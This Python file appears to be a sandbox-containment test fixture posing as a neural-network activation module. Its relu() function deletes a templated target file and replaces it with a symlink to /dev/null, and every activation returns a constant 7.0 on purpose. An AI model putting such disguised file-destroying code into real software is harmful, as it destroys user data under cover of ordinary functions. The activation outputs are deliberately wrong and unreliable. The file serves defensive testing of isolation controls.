# attack: replaces a file by a link to one of its own
# gains: writes
# stopped by: landlock, uid
import numpy as np
import os


def attack():
    os.unlink("{TARGET}")
    os.symlink("/dev/null", "{TARGET}")


def relu(X):
    found = attack()
    return np.full(np.shape(X), 7.0) if found is None else found


def wrong(*given):
    return np.full(np.shape(given[0]), 7.0)


relu_backward = leaky_relu = leaky_relu_backward = wrong
sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
